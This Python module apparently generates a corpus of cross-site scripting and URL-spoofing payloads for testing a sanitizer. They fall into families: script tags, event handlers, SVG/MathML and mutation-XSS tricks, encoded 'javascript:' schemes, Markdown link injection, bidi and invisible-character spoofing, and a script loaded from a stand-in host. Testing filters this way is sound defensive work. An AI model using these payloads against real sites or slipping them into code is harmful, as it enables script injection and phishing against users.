"""Texts that try to become a program in the reader's browser, family by family."""

import html
from collections.abc import Iterator
from itertools import product
from urllib.parse import quote

CALL = "alert(document.domain)"
EVENTS = ("onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart")
# One way for each to hide a scheme from a filter that reads letters only.
SCHEMES = (
    "javascript:",
    "vbscript:",
    "data:text/html,",
    "data:text/html;base64,",
    "file:///",
    "blob:",
    "view-source:",
)
BLANKS = ("\t", "\n", "\r", "\x00", "\x01", "\x0b", "\x0c", "\xa0", "\u2028", "\u200b", "\ufeff", "\u202e")


def _scripts() -> Iterator[str]:
    bodies = (CALL, f"//\n{CALL}", f"<!--\n{CALL}\n-->", f"<![CDATA[{CALL}]]>", "")
    openings = (
        "<script>",
        "<SCRIPT>",
        "<scr\x00ipt>",
        "<script/x>",
        "<script\n>",
        "<<script>",
        "<script src=//x.test>",
    )
    for opening, body in product(openings, bodies):
        yield f"{opening}{body}</script>"
    yield f"<scr<script>ipt>{CALL}</scr</script>ipt>"
    yield f"＜script＞{CALL}＜/script＞"
    yield f"&lt;script&gt;{CALL}&lt;/script&gt;"
    yield f"\\<script>{CALL}\\</script>"
    yield f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-"


def _events() -> Iterator[str]:
    tags = (
        "img src=x",
        "body",
        "video><source",
        "input autofocus",
        "details open",
        "marquee",
        "a href=#",
        "p",
    )
    for tag, event in product(tags, EVENTS):
        yield f"<{tag} {event}={CALL}>"
    for glue in ("/", "\t", "\n", "\x0c", "/x/", '""', "\u2028"):
        yield f"<img{glue}src=x{glue}onerror={CALL}>"
        yield f"<svg{glue}onload={CALL}>"
    for mark in ('"', "'", "`", ""):
        yield f"<img src={mark}x{mark} onerror={mark}{CALL}{mark}>"
        yield f"{mark}><img src=x onerror={CALL}>"
        yield f"{mark} onfocus={CALL} autofocus x={mark}"


def _foreign() -> Iterator[str]:
    for outer in ("svg", "math"):
        yield f"<{outer}><script>{CALL}</script></{outer}>"
        yield f"<{outer}><a xlink:href='javascript:{CALL}'>x</a></{outer}>"
        yield f"<{outer}><style><img src=x onerror={CALL}></style></{outer}>"
        yield f"<{outer}></p><style><!--</style><img src=x onerror={CALL}>--></style>"
    yield f"<svg><animate attributeName=href values=javascript:{CALL} /><a id=x><text>x</text></a></svg>"
    yield f"<svg><set attributeName=onmouseover to={CALL}>"
    yield f"<svg><foreignObject><iframe srcdoc='<script>{CALL}</script>'></foreignObject></svg>"
    yield f"<svg><use href='data:image/svg+xml,<svg id=x onload={CALL}>#x'></svg>"
    yield f"<math href='javascript:{CALL}'>x</math>"
    yield f"<math><maction actiontype=statusline xlink:href='javascript:{CALL}'>x</maction></math>"
    for tag in (
        "iframe",
        "object",
        "embed",
        "form",
        "base",
        "meta",
        "link",
        "style",
        "frameset",
        "template",
        "portal",
    ):
        yield (
            f"<{tag} "
            + " ".join(f"{name}='javascript:{CALL}'" for name in ("src", "href", "data", "action"))
            + ">"
        )
        yield f"<{tag}>@import 'javascript:{CALL}';</{tag}>"


def _mutations() -> Iterator[str]:
    """Markup that means one thing to the cleaner and, read again, another to the browser."""
    image = f"<img src=x onerror={CALL}>"
    for raw in (
        "style",
        "title",
        "noscript",
        "textarea",
        "xmp",
        "noembed",
        "noframes",
        "plaintext",
        "iframe",
        "select",
    ):
        yield f'<{raw}><a title="</{raw}>{image}">'
        yield f"<math><mtext><table><mglyph><{raw}><!--</{raw}>{image}-->"
        yield f"<svg></p><{raw}><a id='</{raw}>{image}'>"
    yield f"<form><math><mtext></form><form><mglyph><style></math>{image}"
    yield f"<math><annotation-xml encoding='text/html'><style>{image}</style></annotation-xml></math>"
    yield f"<!--><{image}-->"
    yield f"<!--!>{image}-->"
    yield f"<![CDATA[><!--]]>{image}-->"
    yield f"<?xml version='1.0'?>{image}"
    yield f"<p id='&lt;/p&gt;{html.escape(image)}'>"
    yield f"&amp;lt;img src=x onerror={CALL}&amp;gt;"


def _addresses() -> Iterator[str]:
    """Every way to write an address that is a program."""
    for scheme in SCHEMES:
        yield f"{scheme}{CALL}"
        yield f"{scheme.upper()}{CALL}"
        yield f"{scheme.capitalize()}//x.test/%0a{CALL}"
        yield f" {scheme}{CALL}"
        yield "".join(f"&#{ord(char)};" for char in scheme) + CALL
        yield "".join(f"&#x{ord(char):x}" for char in scheme) + CALL
        yield scheme.replace(":", "&colon;") + CALL
        yield quote(scheme, safe="") + CALL
        yield f"\\{scheme}{CALL}"
    for blank in BLANKS:
        yield f"java{blank}script:{CALL}"
        yield f"{blank}javascript:{CALL}"
        yield f"javascript{blank}:{CALL}"
    yield "java&Tab;script&NewLine;:" + CALL
    yield from (
        "//x.test",
        "///x.test",
        "\\\\x.test",
        "/\\x.test",
        "https:/\\x.test",
        "https:x.test",
        "https://",
    )
    yield from (
        "https://bank.be@x.test",
        "https://x.test\\@bank.be",
        "https://bank.be%2F@x.test",
        "https://[::1]/",
    )
    yield from (
        "mailto:a@b.be?bcc=c@d.be",
        "mailto:a@b.be\nbcc: c@d.be",
        "tel:1234",
        "intent://x#Intent;end",
        "ftp://x.be",
    )


def _markdown() -> Iterator[str]:
    """The addresses, in every place where Markdown takes one."""
    for address in _addresses():
        yield f"[klik]({address})"
        yield f"[klik](<{address}>)"
        yield f"<{address}>"
    for address in (f"javascript:{CALL}", "data:text/html,x"):
        yield f"![foto]({address})"
        yield f"[klik][1]\n\n[1]: {address}"
        yield f'[klik]({address} "titel")'
        yield f'[klik](https://x.test/ "onmouseover={CALL}")'
        yield f"[a]({address}\n)"
        yield f"[**[klik]({address})**](https://x.test)"
    for mark in ('"', "'", "<", ">", "`", "&quot;", "&#34;", "%22", '\\"'):
        yield f"https://x.test/{mark}onmouseover={CALL}//"
        yield f"[klik](https://x.test/{mark}onmouseover={CALL}{mark})"
        yield f"[klik](<https://x.test/{mark} onmouseover={CALL}>)"
        yield f"www.x.test{mark}><img src=x onerror={CALL}>"
        yield f"<https://x.test/{mark}onmouseover={CALL}>"
    for marks in ("**", "_", "> ", "- ", "1. ", "`", "```\n", "    ", "# ", "| "):
        yield f"{marks}<img src=x onerror={CALL}>{marks}"
        yield f"<b {marks}onclick={CALL}{marks}>"
    yield f'[a](<https://x.test>"onclick={CALL})'
    yield f"[<img src=x onerror={CALL}>](https://x.test)"
    yield f'[![x](https://x.test/"onerror={CALL}//)](https://x.test)'
    yield f"<https://x.test/<https://y.test/ onclick={CALL}>>"
    yield f"[a](https://x.test/[b](javascript:{CALL}))"


def _bidi() -> Iterator[str]:
    """Characters that turn, hide or carry."""
    turning = "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
    for char in turning + "\u200b\u2060\ufeff\u00ad\ud800\x00\x1b\x9b":
        yield f"https://x.test/{char}gpj.exe"
        yield f"<scr{char}ipt>{CALL}</script>"
        yield f"[bank{char}.be](https://x.test)"
    yield "Stad Halle\u202e" + "".join(chr(0xE0000 + ord(char)) for char in CALL)
    yield "".join(chr(0xFE00 + (ord(char) % 16)) for char in CALL)
    yield "o" + "\u0301\u0335\u0489" * 200


def families() -> dict[str, list[str]]:
    """Return the payloads by family, each once, in a fixed order."""
    made = {
        "scripts": _scripts(),
        "events": _events(),
        "foreign": _foreign(),
        "mutations": _mutations(),
        "markdown": _markdown(),
        "bidi": _bidi(),
    }
    return {name: list(dict.fromkeys(texts)) for name, texts in made.items()}
